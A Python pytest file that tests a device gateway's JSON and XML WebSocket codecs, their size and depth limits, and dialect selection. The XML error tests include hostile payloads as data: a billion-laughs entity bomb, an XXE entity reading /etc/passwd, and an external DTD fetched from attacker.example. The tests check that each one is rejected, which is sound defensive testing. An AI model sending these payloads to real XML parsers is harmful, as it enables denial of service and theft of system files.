"""Device WebSocket codecs: JSON dialect, XML dialect, dialect choice."""

import json
from datetime import datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gatewayd.connectors.devices import json_codec as device_json, xml_codec as device_xml
from gatewayd.connectors.devices.messages import (MAX_DEPTH, MAX_DOCUMENT_CHARS, MAX_KEYS, Ack, Attendance,
                                                  Command, CommandResult, Error, Event, Ping, Pong, Register,
                                                  Registered, Telemetry)
from gatewayd.connectors.devices.dialect import SUBPROTOCOLS, choose_dialect, select_subprotocol
from gatewayd.errors import ProtocolError
from gatewayd.connectors.terminals.punches import Punch

DEVICE_ID = "3f1c2a9e-4b7d-4c1e-9a51-0d2f6b8e7c10"
NOW = "2026-06-12T10:00:00Z"
PUNCH = Punch(12, "2026-06-12 09:15:30", datetime(2026, 6, 12, 9, 15, 30), mode=8, inout=0, event=0)

FAST = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
ROUND_TRIP = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def error_code(decode, text):
    with pytest.raises(ProtocolError) as caught:
        decode(text)
    assert caught.value.message  # always a human explanation
    return caught.value.code


# ---------------------------------------------------------------------------------------------
# JSON dialect: device -> server


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            f'{{"type":"register","device_id":"{DEVICE_ID}","token":"tok_your_device_token"}}',
            Register(DEVICE_ID, "tok_your_device_token"),
        ),
        (
            '{"type":"telemetry","payload":{"temperature":22.5,"humidity":48}}',
            Telemetry({"temperature": 22.5, "humidity": 48}),
        ),
        (
            '{"type":"telemetry","payload":{"t":1},"ts":"2026-06-12T09:59:58Z","id":7}',
            Telemetry({"t": 1}, ts="2026-06-12T09:59:58Z", msg_id=7),
        ),
        (
            '{"type":"event","event":"door_open","payload":{"zone":2},"id":"e-8"}',
            Event("door_open", {"zone": 2}, msg_id="e-8"),
        ),
        ('{"type":"event","event":"door_open"}', Event("door_open", {})),
        (
            '{"type":"attendance","id":9,"records":[{"enrollid":12,"time":"2026-06-12 09:15:30",'
            '"mode":8,"inout":0,"event":0}]}',
            Attendance([PUNCH], msg_id=9),
        ),
        ('{"type":"ping"}', Ping()),
        (
            '{"type":"command_result","id":"c-1","ok":true,"result":{"rebooted":true}}',
            CommandResult("c-1", True, {"rebooted": True}),
        ),
        (
            '{"type":"command_result","id":"c-2","ok":false,"error":"busy"}',
            CommandResult("c-2", False, error="busy"),
        ),
    ],
)
def test_json_decodes_every_client_message(text, expected):
    assert device_json.decode(text) == expected


def test_json_tolerates_unknown_fields_nulls_and_bytes():
    assert device_json.decode(b' {"type":"ping","extra":[1,2]} ') == Ping()
    assert device_json.decode('{"type":"telemetry","payload":{},"ts":null,"id":null}') == Telemetry({})
    assert device_json.decode('{"type":"attendance","record":[]}') == Attendance([])


# ---------------------------------------------------------------------------------------------
# JSON dialect: server -> device and round trips


@pytest.mark.parametrize(
    ("msg", "expected"),
    [
        (Registered(DEVICE_ID, NOW), f'{{"type":"registered","device_id":"{DEVICE_ID}","server_time":"{NOW}"}}'),
        (Ack(7), '{"type":"ack","id":7}'),
        (Ack("e-8"), '{"type":"ack","id":"e-8"}'),
        (Pong(NOW), f'{{"type":"pong","server_time":"{NOW}"}}'),
        (
            Command("c-1", "reboot", {"delay": 5}),
            '{"type":"command","id":"c-1","command":"reboot","payload":{"delay":5}}',
        ),
        (
            Error("auth_failed", "unknown device or wrong token"),
            '{"type":"error","code":"auth_failed","message":"unknown device or wrong token"}',
        ),
        (Register("d-1", "tok_1"), '{"type":"register","device_id":"d-1","token":"tok_1"}'),
        (Telemetry({"t": 1.5}, ts="x", msg_id=3), '{"type":"telemetry","payload":{"t":1.5},"ts":"x","id":3}'),
        (Event("door_open", {}), '{"type":"event","event":"door_open","payload":{}}'),
        (
            Attendance([PUNCH], msg_id="a"),
            '{"type":"attendance","records":[{"enrollid":12,"time":"2026-06-12 09:15:30",'
            '"mode":8,"inout":0,"event":0}],"id":"a"}',
        ),
        (Ping(), '{"type":"ping"}'),
        (CommandResult("c-1", True), '{"type":"command_result","id":"c-1","ok":true}'),
    ],
)
def test_json_encodes_every_message(msg, expected):
    assert device_json.encode(msg) == expected


def test_json_encode_keeps_unicode_and_refuses_non_messages():
    assert device_json.encode(Error("invalid", "température")) == (
        '{"type":"error","code":"invalid","message":"température"}'
    )
    with pytest.raises(TypeError):
        device_json.encode({"type": "ping"})


CLIENT_MESSAGES = [
    Register(DEVICE_ID, "tok_x"),
    Telemetry({"a": {"b": [1, 2.5, None, True, "x"]}}, ts="2026-06-12T09:00:00", msg_id=1),
    Event("alarm.zone-1", {"zone": 1}, msg_id="m"),
    Attendance([PUNCH, Punch(0, "2026-06-12T09:20:00", datetime(2026, 6, 12, 9, 20), inout=1, event=1, temp=36.5)]),
    Ping(),
    CommandResult("c-9", False, {"code": 3}, "refused"),
]


@pytest.mark.parametrize("msg", CLIENT_MESSAGES)
def test_json_round_trip(msg):
    assert device_json.decode(device_json.encode(msg)) == msg


# ---------------------------------------------------------------------------------------------
# JSON dialect: errors


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("", "bad_json"),
        ("hello", "bad_json"),
        ('{"type":"ping"', "bad_json"),
        ('["type","ping"]', "bad_json"),
        ("42", "bad_json"),
        ('{"type":"telemetry","payload":{"t":NaN}}', "bad_json"),
        ('{"type":"telemetry","payload":{"t":-Infinity}}', "bad_json"),
        ('{"type":"telemetry","payload":{"t":1e999}}', "bad_json"),
        ('{"type":"telemetry","payload":{"t":' + "9" * 5000 + "}}", "bad_json"),
        (b'{"type":"ping","x":"\xff"}', "bad_json"),
        ('{"type":"registered"}', "unknown_type"),
        ('{"type":"reboot"}', "unknown_type"),
        ("{}", "invalid"),
        ('{"type":7}', "invalid"),
        ('{"type":"register","token":"t"}', "invalid"),
        ('{"type":"register","device_id":"d","token":""}', "invalid"),
        ('{"type":"register","device_id":"' + "d" * 65 + '","token":"t"}', "invalid"),
        ('{"type":"register","device_id":"d 1","token":"t"}', "invalid"),
        ('{"type":"register","device_id":"d","token":"' + "t" * 129 + '"}', "invalid"),
        ('{"type":"register","device_id":"d","token":"tok en"}', "invalid"),
        ('{"type":"register","device_id":1,"token":"t"}', "invalid"),
        ('{"type":"telemetry"}', "invalid"),
        ('{"type":"telemetry","payload":[1]}', "invalid"),
        ('{"type":"telemetry","payload":{},"id":1.5}', "invalid"),
        ('{"type":"telemetry","payload":{},"id":true}', "invalid"),
        ('{"type":"telemetry","payload":{},"id":"' + "i" * 65 + '"}', "invalid"),
        ('{"type":"telemetry","payload":{},"id":' + str(2**63) + "}", "invalid"),
        ('{"type":"telemetry","payload":{},"ts":5}', "invalid"),
        ('{"type":"telemetry","payload":{"t":"\\ud800"}}', "invalid"),
        ('{"type":"telemetry","payload":{"":1}}', "invalid"),
        ('{"type":"event","event":"door open"}', "invalid"),
        ('{"type":"event","event":"' + "e" * 65 + '"}', "invalid"),
        ('{"type":"event","event":"x","payload":"p"}', "invalid"),
        ('{"type":"attendance","records":{}}', "invalid"),
        ('{"type":"attendance","records":[{"enrollid":1}]}', "invalid"),
        ('{"type":"attendance","records":[{"enrollid":1,"time":"yesterday"}]}', "invalid"),
        ('{"type":"command_result","id":"c","ok":"yes"}', "invalid"),
        ('{"type":"command_result","ok":true}', "invalid"),
        ('{"type":"command_result","id":"c","ok":true,"result":[]}', "invalid"),
    ],
)
def test_json_error_codes(text, code):
    assert error_code(device_json.decode, text) == code


def nested_payload(levels):
    payload = 1
    for _ in range(levels):
        payload = {"a": payload}
    return payload


def test_json_depth_limit_is_exact():
    at_limit = json.dumps({"type": "telemetry", "payload": nested_payload(MAX_DEPTH)})
    assert isinstance(device_json.decode(at_limit), Telemetry)
    too_deep = json.dumps({"type": "telemetry", "payload": nested_payload(MAX_DEPTH + 1)})
    with pytest.raises(ProtocolError, match="deeper than 16"):
        device_json.decode(too_deep)


def test_json_very_deep_nesting_is_an_error_not_a_crash():
    text = '{"type":"telemetry","payload":' + '{"a":[' * 50_000 + "1" + "]}" * 50_000 + "}"
    assert error_code(device_json.decode, text) == "invalid"


def test_json_key_count_and_size_limits():
    wide = json.dumps({"type": "telemetry", "payload": {f"k{i}": i for i in range(MAX_KEYS + 1)}})
    assert error_code(device_json.decode, wide) == "invalid"
    big = '{"type":"ping","pad":"' + "x" * MAX_DOCUMENT_CHARS + '"}'
    assert error_code(device_json.decode, big) == "too_large"
    assert error_code(lambda t: device_json.decode(t, max_chars=10), '{"type":"ping"}') == "too_large"


def test_json_error_messages_name_the_field():
    with pytest.raises(ProtocolError, match="register: missing field 'token'"):
        device_json.decode('{"type":"register","device_id":"d"}')
    with pytest.raises(ProtocolError, match=r"register: device_id is 65 characters long, the limit is 64"):
        device_json.decode('{"type":"register","device_id":"' + "d" * 65 + '","token":"t"}')
    with pytest.raises(ProtocolError, match=r"attendance: records\[0\]\.time"):
        device_json.decode('{"type":"attendance","records":[{"enrollid":1,"time":"x"}]}')


def test_server_messages_validate_on_construction():
    with pytest.raises(ProtocolError):
        Command("c-1", "re boot")
    with pytest.raises(ProtocolError):
        Command("c-1", "reboot", {"x": float("nan")})
    with pytest.raises(ProtocolError):
        Error("Bad Code", "x")
    with pytest.raises(ProtocolError):
        Ack(None)


# ---------------------------------------------------------------------------------------------
# XML dialect


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f'<register device_id="{DEVICE_ID}" token="tok_abc"/>', Register(DEVICE_ID, "tok_abc")),
        (
            '<telemetry ts="2026-06-12T09:59:58Z" id="7"><temperature>22.5</temperature>'
            "<humidity>48</humidity></telemetry>",
            Telemetry({"temperature": 22.5, "humidity": 48}, ts="2026-06-12T09:59:58Z", msg_id="7"),
        ),
        ('<event name="door_open" id="8"><zone>2</zone></event>', Event("door_open", {"zone": 2}, msg_id="8")),
        (
            '<attendance id="9"><record enrollid="12" time="2026-06-12 09:15:30" mode="8" inout="0" '
            'event="0"/></attendance>',
            Attendance([PUNCH], msg_id="9"),
        ),
        ("<ping/>", Ping()),
        ('<?xml version="1.0" encoding="UTF-8"?>\n<ping></ping>', Ping()),
        ('<command_result id="c-1" ok="true"/>', CommandResult("c-1", True)),
        (
            '<command_result id="c-1" ok="false" error="busy"><code>3</code></command_result>',
            CommandResult("c-1", False, {"code": 3}, "busy"),
        ),
    ],
)
def test_xml_decodes_every_client_message(text, expected):
    assert device_xml.decode(text) == expected


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("22.5", 22.5),
        ("48", 48),
        ("-3", -3),
        (" 5 ", 5),
        ("1e3", 1000.0),
        ("true", True),
        ("false", False),
        ("True", "True"),
        ("007", "007"),
        ("1.", "1."),
        ("abc", "abc"),
        ("", ""),
        ("99999999999999999999", "99999999999999999999"),
        ("1e999", "1e999"),
        ("a &amp; b", "a & b"),
    ],
)
def test_xml_leaf_text_becomes_number_or_boolean(text, value):
    msg = device_xml.decode(f"<telemetry><v>{text}</v></telemetry>")
    assert msg.payload == {"v": value}
    assert type(msg.payload["v"]) is type(value)


def test_xml_nested_and_repeated_elements():
    msg = device_xml.decode(
        "<telemetry>\n  <gps><lat>48.1</lat><lon>11.5</lon></gps>\n"
        "  <reading>1</reading><reading>2</reading><reading>3</reading>\n</telemetry>"
    )
    assert msg.payload == {"gps": {"lat": 48.1, "lon": 11.5}, "reading": [1, 2, 3]}


@pytest.mark.parametrize(
    ("msg", "expected"),
    [
        (Registered(DEVICE_ID, NOW), f'<registered device_id="{DEVICE_ID}" server_time="{NOW}"/>'),
        (Ack("8"), '<ack id="8"/>'),
        (Ack(8), '<ack id="8"/>'),
        (Pong(NOW), f'<pong server_time="{NOW}"/>'),
        (Command("c-1", "reboot", {"delay": 5}), '<command id="c-1" name="reboot"><delay>5</delay></command>'),
        (Command("c-2", "reboot"), '<command id="c-2" name="reboot"/>'),
        (
            Command("c-3", "set", {"cfg": {"on": True, "level": 0.5, "tags": ["a", "b"], "note": None}}),
            '<command id="c-3" name="set"><cfg><on>true</on><level>0.5</level>'
            "<tags>a</tags><tags>b</tags><note/></cfg></command>",
        ),
        (Error("bad_xml", "not well-formed"), '<error code="bad_xml">not well-formed</error>'),
        (Error("invalid", 'a<b & "c"'), '<error code="invalid">a&lt;b &amp; "c"</error>'),
        (Ack('a"<&>'), '<ack id="a&quot;&lt;&amp;&gt;"/>'),
        (Register("d-1", "tok_1"), '<register device_id="d-1" token="tok_1"/>'),
        (
            Telemetry({"temperature": 22.5, "humidity": 48}, ts="t", msg_id="7"),
            '<telemetry ts="t" id="7"><temperature>22.5</temperature><humidity>48</humidity></telemetry>',
        ),
        (Event("door_open", {"zone": 2}, msg_id=8), '<event name="door_open" id="8"><zone>2</zone></event>'),
        (
            Attendance([PUNCH], msg_id="9"),
            '<attendance id="9"><record enrollid="12" time="2026-06-12 09:15:30" mode="8" inout="0" '
            'event="0"/></attendance>',
        ),
        (Ping(), "<ping/>"),
        (CommandResult("c-1", True), '<command_result id="c-1" ok="true"/>'),
    ],
)
def test_xml_encodes_every_message(msg, expected):
    assert device_xml.encode(msg) == expected


XML_CLIENT_MESSAGES = [
    Register(DEVICE_ID, 'tok_"<&>'),
    Telemetry({"a": {"b": 1, "c": [1.5, 2.5]}, "s": "x\r\ny", "z": False}, ts="2026-06-12 09:00:00", msg_id="1"),
    Event("alarm", {"zone": 1}, msg_id="m"),
    Attendance([PUNCH, Punch(0, "2026-06-12T09:20:00", datetime(2026, 6, 12, 9, 20), inout=1, temp=36.5, image="QUJD")]),
    Ping(),
    CommandResult("c-9", False, {"code": 3}, "refused\tnow"),
]


@pytest.mark.parametrize("msg", XML_CLIENT_MESSAGES)
def test_xml_round_trip(msg):
    assert device_xml.decode(device_xml.encode(msg)) == msg


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<telemetry><v>&lol4;</v></telemetry>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE telemetry [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<telemetry><v>&xxe;</v></telemetry>"""

EXTERNAL_DTD = '<!DOCTYPE register SYSTEM "http://attacker.example/evil.dtd"><register device_id="d" token="t"/>'
PLAIN_DTD = "<!DOCTYPE ping><ping/>"


@pytest.mark.parametrize(
    ("text", "code"),
    [
        (BILLION_LAUGHS, "bad_xml"),
        (EXTERNAL_ENTITY, "bad_xml"),
        (EXTERNAL_DTD, "bad_xml"),
        (PLAIN_DTD, "bad_xml"),
        ("<telemetry><v>&undefined;</v></telemetry>", "bad_xml"),
        ("", "bad_xml"),
        ("<ping>", "bad_xml"),
        ("<ping/><ping/>", "bad_xml"),
        ("<ping/>\x00", "bad_xml"),
        ("<telemetry><v>\ud800</v></telemetry>", "bad_xml"),
        (b"<ping/>\xff", "bad_xml"),
        ("<pong/>", "unknown_type"),
        ('<register xmlns="urn:x" device_id="d" token="t"/>', "unknown_type"),
        ('<register device_id="d"/>', "invalid"),
        ('<register device_id="" token="t"/>', "invalid"),
        ("<event><zone>2</zone></event>", "invalid"),
        ('<telemetry><v unit="C">2</v></telemetry>', "invalid"),
        ("<telemetry><v>2<w>3</w></v></telemetry>", "invalid"),
        ("<telemetry>stray<v>1</v></telemetry>", "invalid"),
        ('<telemetry xmlns:n="urn:x"><n:v>1</n:v></telemetry>', "invalid"),
        ('<telemetry id="has space"/>', "invalid"),
        ('<command_result id="c" ok="yes"/>', "invalid"),
        ('<command_result ok="true"/>', "invalid"),
        ('<attendance><punch enrollid="1" time="2026-06-12 09:00:00"/></attendance>', "invalid"),
        ('<attendance><record enrollid="x" time="2026-06-12 09:00:00"/></attendance>', "invalid"),
        ('<attendance><record enrollid="1" time="2026-13-12 09:00:00"/></attendance>', "invalid"),
    ],
)
def test_xml_error_codes(text, code):
    assert error_code(device_xml.decode, text) == code


def test_xml_dtd_errors_say_why():
    with pytest.raises(ProtocolError, match="DOCTYPE"):
        device_xml.decode(BILLION_LAUGHS)


def test_xml_depth_limit_and_deep_documents():
    def nested(levels):
        return "<telemetry>" + "<a>" * levels + "1" + "</a>" * levels + "</telemetry>"

    assert isinstance(device_xml.decode(nested(MAX_DEPTH)), Telemetry)
    assert error_code(device_xml.decode, nested(MAX_DEPTH + 1)) == "invalid"
    assert error_code(device_xml.decode, nested(100_000)) == "invalid"


def test_xml_size_limit():
    assert error_code(device_xml.decode, "<ping>" + " " * MAX_DOCUMENT_CHARS + "</ping>") == "too_large"
    assert error_code(lambda t: device_xml.decode(t, max_chars=5), "<ping/>") == "too_large"


@pytest.mark.parametrize(
    "msg",
    [
        Command("c", "set", {"1bad": 1}),
        Command("c", "set", {"has space": 1}),
        Command("c", "set", {"m": [[1, 2]]}),
        Command("c", "set", {"ctl": "a\x01b"}),
    ],
)
def test_xml_encode_refuses_what_xml_cannot_carry(msg):
    with pytest.raises(ProtocolError) as caught:
        device_xml.encode(msg)
    assert caught.value.code == "invalid"


def test_xml_encode_refuses_non_messages():
    with pytest.raises(TypeError):
        device_xml.encode("<ping/>")


# ---------------------------------------------------------------------------------------------
# Dialect choice


@pytest.mark.parametrize(
    ("offered", "frame", "dialect"),
    [
        (["gatewayd.xml"], '{"type":"register"}', "xml"),
        (["gatewayd.json"], "<register/>", "json"),
        (["other", "gatewayd.xml", "gatewayd.json"], None, "xml"),
        (["gatewayd.json", "gatewayd.xml"], None, "json"),
        ([], '<register device_id="d" token="t"/>', "xml"),
        (["chat"], ' \r\n\t<ping/>', "xml"),
        ([], "\ufeff<ping/>", "xml"),
        ([], b"  <ping/>", "xml"),
        ([], '{"type":"register","device_id":"d","token":"t"}', "json"),
        ([], '{"cmd":"reg","sn":"ZX0006827500","cpusn":"1"}', "terminal"),
        ([], b'{ " cmd " : "reg", "sn":"ZX1", }', "terminal"),
        ([], '{"cmd":"reg","type":"register"}', "json"),
        ([], "not json at all", "json"),
        ([], "{broken", "json"),
        ([], "", "json"),
        ([], None, "json"),
        (None, None, "json"),
    ],
)
def test_choose_dialect(offered, frame, dialect):
    assert choose_dialect(offered, frame) == dialect


def test_select_subprotocol():
    assert SUBPROTOCOLS == ("gatewayd.json", "gatewayd.xml")
    assert select_subprotocol(["mqtt", "gatewayd.xml"]) == "gatewayd.xml"
    assert select_subprotocol(["mqtt"]) is None
    assert select_subprotocol([]) is None


# ---------------------------------------------------------------------------------------------
# Properties: decoders raise nothing but ProtocolError

json_scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(max_size=20)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=8,
)
field_names = st.sampled_from(
    ["type", "device_id", "token", "payload", "ts", "id", "event", "records", "record", "ok", "result",
     "error", "enrollid", "time", "mode", "inout", "temp", "image", "verifymode"]
)
message_types = st.sampled_from(["register", "telemetry", "event", "attendance", "ping", "command_result", "x"])


@st.composite
def message_like_objects(draw):
    obj = draw(st.dictionaries(field_names, json_values, max_size=6))
    obj["type"] = draw(message_types)
    if draw(st.booleans()):
        obj["records"] = draw(st.lists(st.dictionaries(field_names, json_values, max_size=6), max_size=3))
    return obj


def only_protocol_errors(decode, value):
    try:
        decode(value)
    except ProtocolError as exc:
        assert isinstance(exc.code, str) and exc.message


@FAST
@given(st.text(max_size=200) | st.binary(max_size=200))
def test_json_decode_arbitrary_text(text):
    only_protocol_errors(device_json.decode, text)


@FAST
@given(json_values | message_like_objects())
def test_json_decode_arbitrary_json_values(value):
    only_protocol_errors(device_json.decode, json.dumps(value))


@FAST
@given(st.text(max_size=200) | st.binary(max_size=200))
def test_xml_decode_arbitrary_text(text):
    only_protocol_errors(device_xml.decode, text)


xml_names = st.sampled_from(["register", "telemetry", "event", "attendance", "ping", "command_result",
                             "record", "device_id", "token", "id", "ok", "name", "enrollid", "time", "v"])
xml_texts = st.sampled_from(["", "1", "2.5", "true", "x", "2026-06-12 09:15:30", "-7", "1e9", "&amp;", "<"])


@st.composite
def xml_documents(draw, depth=0):
    tag = draw(xml_names)
    attributes = draw(st.dictionaries(xml_names, xml_texts, max_size=4))
    attrs = "".join(f' {k}="{v.replace("<", "&lt;")}"' for k, v in attributes.items())
    children = draw(st.lists(xml_documents(depth + 1), max_size=3)) if depth < 2 else []
    text = draw(xml_texts).replace("<", "&lt;")
    return f"<{tag}{attrs}>{text}{''.join(children)}</{tag}>"


@FAST
@given(xml_documents())
def test_xml_decode_arbitrary_documents(text):
    only_protocol_errors(device_xml.decode, text)


@FAST
@given(st.lists(st.text(max_size=15), max_size=3), st.none() | st.text(max_size=100) | st.binary(max_size=100))
def test_choose_dialect_never_raises(offered, frame):
    assert choose_dialect(offered, frame) in ("json", "xml", "terminal")


payload_keys = st.text(alphabet="abcdxyz_", min_size=1, max_size=6)
payload_values = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**63), 2**63 - 1) | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(st.characters(exclude_categories=("Cs",)), max_size=10),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(payload_keys, inner, max_size=3),
    max_leaves=15,
)


@ROUND_TRIP
@given(st.dictionaries(payload_keys, payload_values, max_size=5), st.none() | st.integers(0, 10**6))
def test_json_telemetry_round_trip_property(payload, msg_id):
    msg = Telemetry(payload, msg_id=msg_id)
    assert device_json.decode(device_json.encode(msg)) == msg


xml_safe_values = st.recursive(
    st.booleans() | st.integers(-(10**12), 10**12) | st.floats(allow_nan=False, allow_infinity=False)
    | st.tuples(st.sampled_from("aXz"), st.text(alphabet="abXY &<>", max_size=8)).map("".join),
    lambda inner: st.dictionaries(payload_keys, inner, min_size=1, max_size=3),
    max_leaves=10,
)


@ROUND_TRIP
@given(st.dictionaries(payload_keys, xml_safe_values, max_size=5))
def test_xml_telemetry_round_trip_property(payload):
    msg = Telemetry(payload, msg_id="1")
    assert device_xml.decode(device_xml.encode(msg)) == msg
